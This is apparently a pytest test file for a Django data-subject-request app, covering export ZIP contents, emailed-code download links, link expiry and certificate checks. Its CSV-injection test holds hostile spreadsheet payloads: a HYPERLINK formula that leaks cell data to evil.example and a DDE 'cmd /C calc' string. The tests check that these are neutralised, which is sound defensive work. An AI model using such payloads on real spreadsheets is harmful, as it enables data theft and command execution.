"""The export ZIP and the secure download of a case's files."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import json
import re
import zipfile
from pathlib import Path

import pytest
from django.core import mail
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from dsar import csvsafe, downloads
from dsar.deliverables.export_zip import build_export_zip
from dsar.housekeeping import delete_expired_artifacts
from dsar.models import Artifact, ArtifactKind, CaseStatus, LegalBasis, ProcessingActivity
from tests.factories import CaseFactory, DataSystemFactory, SystemRunFactory, outcome_of

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def media(settings, tmp_path: Path) -> Path:
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


def export_run(case, media: Path, key: str, records: list[tuple[str, dict]], **system_fields):
    system = DataSystemFactory(key=key, name=key.title(), **system_fields)
    relative = f"runs/{case.public_id.hex}/{key}.jsonl"
    path = media / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("".join(json.dumps({"category": c, "record": r}) + "\n" for c, r in records))
    counts: dict[str, int] = {}
    for category, _record in records:
        counts[category] = counts.get(category, 0) + 1
    return SystemRunFactory(
        case=case,
        system=system,
        status="succeeded",
        result_file=relative,
        **outcome_of("export", found=bool(records), details={"counts": counts}),
    )


def test_the_manifest_checksums_and_counts_match_the_files_which_open_as_json_and_csv(
    media: Path,
) -> None:
    case = CaseFactory(status=CaseStatus.COMPLETED)
    export_run(
        case,
        media,
        "crm",
        [
            ("contact", {"email": "ada@example.com", "properties": {"phone": "+44"}}),
            ("notes", {"body": 'Met at, "the" fair\nsecond line'}),
            ("notes", {"body": "Called", "extra": 1}),
        ],
    )
    export_run(case, media, "forum", [("posts", {"n": n, "raw": "ü" * 10}) for n in range(250)])
    target = media / "export.zip"

    summary = build_export_zip(case, target)

    assert summary.records == 253
    with zipfile.ZipFile(target) as zf:
        manifest = json.loads(zf.read("manifest.json"))
        assert manifest["reference"] == case.reference
        names = {entry["file"] for entry in manifest["files"]}
        assert names == {
            "crm/crm.json",
            "crm/contact.csv",
            "crm/notes.csv",
            "forum/forum.json",
            "forum/posts.csv",
            "art15-information.json",
            "README.txt",
        }
        assert set(zf.namelist()) == names | {"manifest.json"}
        for entry in manifest["files"]:
            assert hashlib.sha256(zf.read(entry["file"])).hexdigest() == entry["sha256"]
        crm = json.loads(zf.read("crm/crm.json"))
        assert crm["counts"] == {"contact": 1, "notes": 2}
        assert len(crm["records"]) == 3
        notes = list(csv.DictReader(io.StringIO(zf.read("crm/notes.csv").decode("utf-8-sig"))))
        assert [row["body"] for row in notes] == ['Met at, "the" fair\nsecond line', "Called"]
        assert notes[1]["extra"] == "1"
        contact = list(csv.DictReader(io.StringIO(zf.read("crm/contact.csv").decode("utf-8-sig"))))
        assert json.loads(contact[0]["properties"]) == {"phone": "+44"}
        posts = next(e for e in manifest["files"] if e["file"] == "forum/posts.csv")
        assert posts["records"] == 250
        posts_csv = zf.read("forum/posts.csv").decode("utf-8-sig")
        assert len(list(csv.DictReader(io.StringIO(posts_csv)))) == 250
        assert "Art. 15" in zf.read("README.txt").decode()
        json.loads(zf.read("art15-information.json"))


HOSTILE = {
    "website": '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
    "score": "+1+1",
    "notes": "@SUM(1)",
    "balance": "-2+3",
    "indented": "\tcmd",
    "returned": "\r=1",
    "phone": "+44 20 7946 0000",
    "name": "Zoë Ünal",
}


def test_the_zip_csv_and_json_are_byte_for_byte_what_writing_with_every_column_known_gives(
    media: Path,
) -> None:
    # Columns that appear only in later records, a nested value, a formula, a line break,
    # categories interleaved: the files must not change for being written in one pass.
    records = [
        ("contact", {"email": "ada@example.com"}),
        ("notes", {"body": 'Met at, "the" fair\r\nsecond line'}),
        ("contact", {"email": "=HYPERLINK(1)", "phone": "+44 20", "tags": ["a", "b"]}),
        ("notes", {"extra": 1, "body": ""}),
        ("contact", {"company": "Analytical Engines", "email": None}),
    ]
    case = CaseFactory(status=CaseStatus.COMPLETED)
    export_run(case, media, "crm", records)
    target = media / "export.zip"

    build_export_zip(case, target)

    expected_csv = {}
    for category in ("contact", "notes"):
        rows = [record for c, record in records if c == category]
        columns = list(dict.fromkeys(key for record in rows for key in record))
        out = io.StringIO(newline="")
        writer = csvsafe.start_dict(out, columns, extrasaction="ignore")
        writer.writeheader()
        for record in rows:
            writer.writerow(
                {k: v if isinstance(v, str) else json.dumps(v) for k, v in record.items()}
            )
        expected_csv[category] = out.getvalue()
    expected_json = (
        json.dumps({"system": "Crm", "counts": {"contact": 3, "notes": 2}})[:-1]
        + ', "records": ['
        + ",".join("\n" + json.dumps({"category": c, "record": r}) for c, r in records)
        + "\n]}\n"
    )
    with zipfile.ZipFile(target) as zf:
        assert zf.read("crm/contact.csv").decode() == expected_csv["contact"]
        assert zf.read("crm/notes.csv").decode() == expected_csv["notes"]
        assert zf.read("crm/crm.json").decode() == expected_json
        manifest = json.loads(zf.read("manifest.json"))
    assert [entry["file"] for entry in manifest["files"]][:3] == [
        "crm/crm.json",
        "crm/contact.csv",
        "crm/notes.csv",
    ]


def test_the_zip_reads_each_run_file_once(media: Path, monkeypatch) -> None:
    case = CaseFactory(status=CaseStatus.COMPLETED)
    run = export_run(
        case, media, "crm", [("contact", {"n": n}) for n in range(5)] + [("notes", {"n": 9})]
    )
    opened: list[str] = []
    real_open = Path.open

    def counting_open(self: Path, *args, **kwargs):
        if self.name == Path(run.result_file).name:
            opened.append(self.name)
        return real_open(self, *args, **kwargs)

    monkeypatch.setattr(Path, "open", counting_open)

    build_export_zip(case, media / "export.zip")

    assert opened == ["crm.jsonl"]


def test_every_csv_cell_of_the_zip_is_neutralised_and_the_json_keeps_the_raw_values(
    media: Path,
) -> None:
    case = CaseFactory(status=CaseStatus.COMPLETED)
    export_run(case, media, "crm", [("contact", HOSTILE), ("contact", {"=cmd|' /C calc'!A0": "x"})])
    target = media / "export.zip"
    build_export_zip(case, target)

    with zipfile.ZipFile(target) as zf:
        raw = zf.read("crm/contact.csv")
        assert raw.startswith("\ufeff".encode())  # UTF-8 BOM: spreadsheets read the accents
        rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
        cells = [cell for row in rows for cell in row if cell]
        assert not [cell for cell in cells if cell[0] in "=+-@\t\r"], cells
        header, first = rows[0], dict(zip(rows[0], rows[1], strict=True))
        assert "'=cmd|' /C calc'!A0" in header
        assert first["website"] == "'" + HOSTILE["website"]
        assert first["balance"] == "'-2+3" and first["indented"] == "'\tcmd"
        assert first["phone"] == "'+44 20 7946 0000" and first["name"] == "Zoë Ünal"
        assert raw.decode("utf-8-sig").startswith('"')  # every cell quoted
        records = json.loads(zf.read("crm/crm.json"))["records"]
        assert records[0]["record"] == HOSTILE


def test_a_portability_export_holds_only_what_the_person_provided(media: Path) -> None:
    case = CaseFactory(status=CaseStatus.COMPLETED, type="portability")
    provided = export_run(
        case,
        media,
        "newsletter",
        [("member", {"email": "a@example.com"}), ("activity", {"opened": "x"})],
        portable_categories=["member"],
    )
    observed = export_run(
        case, media, "analytics", [("visits", {"page": "/"})], portable_categories=["visits"]
    )
    consent = ProcessingActivity.objects.create(
        key="nl",
        name="Newsletter",
        purposes="p",
        data_categories="c",
        retention="r",
        legal_basis=LegalBasis.CONSENT,
    )
    consent.systems.add(provided.system)
    interest = ProcessingActivity.objects.create(
        key="an",
        name="Analytics",
        purposes="p",
        data_categories="c",
        retention="r",
        legal_basis=LegalBasis.LEGITIMATE_INTERESTS,
    )
    interest.systems.add(observed.system)

    build_export_zip(case, media / "portable.zip", portable_only=True)

    with zipfile.ZipFile(media / "portable.zip") as zf:
        assert "newsletter/member.csv" in zf.namelist()
        assert "newsletter/activity.csv" not in zf.namelist()
        assert not any(name.startswith("analytics/") for name in zf.namelist())


def make_link(case, media: Path, *, kind: str = ArtifactKind.EXPORT_ZIP, content: bytes = b"zip"):
    path = media / f"{case.reference}-{kind}"
    path.write_bytes(content)
    Artifact.objects.create(
        case=case,
        kind=kind,
        path=path.name,
        filename=f"{case.reference}.zip",
        content_type="application/zip",
        sha256=hashlib.sha256(content).hexdigest(),
        size=len(content),
        expires_at=timezone.now() + dt.timedelta(days=14),
    )
    return downloads.issue_link(case)


def open_with_code(client: Client, token: str, captured) -> None:
    with captured(execute=True):
        client.post(reverse("dsar:download", args=[token]), {"send_code": "1"})
    code = re.search(r"^(\d{6})$", mail.outbox[-1].body, re.MULTILINE).group(1)
    response = client.post(reverse("dsar:download", args=[token]), {"code": code})
    assert response.status_code == 302


def test_files_open_only_after_the_emailed_code_and_every_download_is_logged(
    client, media: Path, django_capture_on_commit_callbacks
) -> None:
    case = CaseFactory(status=CaseStatus.COMPLETED)
    token = make_link(case, media, content=b"the person's files")
    file_url = reverse("dsar:download_file", args=[token, "export_zip"])

    page = client.get(reverse("dsar:download", args=[token]))
    assert b"Email me a code" in page.content
    assert client.get(file_url)["Location"] == reverse("dsar:download", args=[token])
    wrong = client.post(reverse("dsar:download", args=[token]), {"code": "000000"})
    assert wrong.status_code == 400

    open_with_code(client, token, django_capture_on_commit_callbacks)
    assert mail.outbox[-1].to == [case.email]
    listing = client.get(reverse("dsar:download", args=[token])).content.decode()
    assert file_url in listing
    response = client.get(file_url)
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == b"the person's files"
    assert response["Content-Disposition"].startswith("attachment")
    assert case.events.filter(action="downloaded").count() == 1
    assert Artifact.objects.get(case=case).downloads == 1


def test_a_code_survives_only_a_few_wrong_guesses(
    client, media, django_capture_on_commit_callbacks
):
    case = CaseFactory(status=CaseStatus.COMPLETED)
    token = make_link(case, media)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("dsar:download", args=[token]), {"send_code": "1"})
    code = re.search(r"^(\d{6})$", mail.outbox[-1].body, re.MULTILINE).group(1)
    wrong = "111111" if code != "111111" else "222222"
    for _ in range(downloads.MAX_CODE_ATTEMPTS):
        client.post(reverse("dsar:download", args=[token]), {"code": wrong})
    late = client.post(reverse("dsar:download", args=[token]), {"code": code})
    assert late.status_code == 400  # the right code no longer works: ask for a new one


def test_one_persons_link_never_reaches_another_persons_files(
    client, media, django_capture_on_commit_callbacks
) -> None:
    first = CaseFactory(status=CaseStatus.COMPLETED)
    second = CaseFactory(status=CaseStatus.COMPLETED)
    first_token = make_link(first, media, content=b"first")
    second_token = make_link(second, media, content=b"second")
    open_with_code(client, second_token, django_capture_on_commit_callbacks)

    # The second person's confirmed session does not open the first person's link...
    response = client.get(reverse("dsar:download_file", args=[first_token, "export_zip"]))
    assert response.status_code == 302
    # ...and the second link only ever serves the second case's file.
    own = client.get(reverse("dsar:download_file", args=[second_token, "export_zip"]))
    assert b"".join(own.streaming_content) == b"second"


def test_an_expired_or_used_up_link_is_refused_with_a_way_forward(
    client, media, django_capture_on_commit_callbacks
) -> None:
    case = CaseFactory(status=CaseStatus.COMPLETED)
    token = make_link(case, media)
    open_with_code(client, token, django_capture_on_commit_callbacks)
    link = downloads.find_link(token)
    link.max_downloads = 1
    link.save()
    file_url = reverse("dsar:download_file", args=[token, "export_zip"])
    assert client.get(file_url).status_code == 200
    used_up = client.get(file_url)
    assert used_up.status_code == 410
    assert b"used up" in used_up.content and b"make a new request" in used_up.content

    link.max_downloads = 10
    link.expires_at = timezone.now() - dt.timedelta(seconds=1)
    link.save()
    expired = client.get(reverse("dsar:download", args=[token]))
    assert expired.status_code == 410 and b"expired" in expired.content
    assert client.get(reverse("dsar:download", args=["not-a-token"])).status_code == 404


def test_expired_files_are_deleted_with_the_raw_results(media: Path) -> None:
    case = CaseFactory(status=CaseStatus.COMPLETED)
    run = export_run(case, media, "crm", [("contact", {"email": "a@example.com"})])
    make_link(case, media)
    Artifact.objects.update(expires_at=timezone.now() - dt.timedelta(minutes=1))
    artifact_path = media / Artifact.objects.get().path

    assert delete_expired_artifacts() == 1

    assert not artifact_path.exists()
    assert not (media / run.result_file).exists()
    run.refresh_from_db()
    assert run.result_file == ""
    assert not Artifact.objects.exists()


def test_staff_can_tell_a_genuine_certificate_from_a_forged_one(admin_client, media: Path):
    from dsar.deliverables.assemble import build_artifacts
    from dsar.models import Controller

    Controller.objects.create(
        name="OTRS AG",
        address="Oberursel",
        contact_email="privacy@example.com",
        dpo_name="DPO",
        dpo_contact="dpo@example.com",
        supervisory_authority="HBDI",
    )
    case = CaseFactory(status=CaseStatus.COMPLETED, type="erasure", closed_at=timezone.now())
    run = SystemRunFactory(
        case=case,
        action="erase",
        status="succeeded",
        **outcome_of("erase", found=True, summary="contact deleted", changed=["contact 1 deleted"]),
    )
    [certificate] = build_artifacts(case)
    assert certificate.kind == ArtifactKind.CERTIFICATE_PDF and len(certificate.checksum) == 64
    url = reverse("admin:dsar_case_action", args=[case.pk, "verify-certificate"])

    genuine = admin_client.post(url, {"checksum": certificate.checksum}, follow=True)
    assert "Genuine" in genuine.content.decode()
    forged = admin_client.post(url, {"checksum": "0" * 64}, follow=True)
    assert "NOT GENUINE" in forged.content.decode()
    for field, value in outcome_of("erase", found=False, summary="nothing found").items():
        setattr(run, field, value)
    run.save()
    changed = admin_client.post(url, {"checksum": certificate.checksum}, follow=True)
    assert "has changed since" in changed.content.decode()


def test_the_export_readme_says_what_is_in_the_file_and_what_is_not(media: Path) -> None:
    case = CaseFactory(status=CaseStatus.COMPLETED, language="de")
    export_run(case, media, "crm", [("contact", {"email": "ada@example.com"})])
    export_run(case, media, "forum", [])
    SystemRunFactory(
        case=case,
        system=DataSystemFactory(key="cards", name="Visitenkarten"),
        status="succeeded",
        **outcome_of("export", found=True, categories=["Visitenkarte"]),
    )
    target = media / "export.zip"
    build_export_zip(case, target)

    with zipfile.ZipFile(target) as zf:
        readme = zf.read("README.txt").decode()
    assert "- Crm (Ordner crm/, 1 Datensatz): Wir haben 1 Datensatz über Sie gefunden" in readme
    assert "- Forum (Ordner forum/, 0 Datensätze): Hier speichern wir keine Daten über Sie." in (
        readme
    )
    assert (
        "- Visitenkarten (nicht in dieser Datei): Wir haben hier Daten über Sie gefunden: "
        "Visitenkarte." in readme
    )
    assert "eine Kopie aller personenbezogenen Daten" not in readme  # not all: see the list
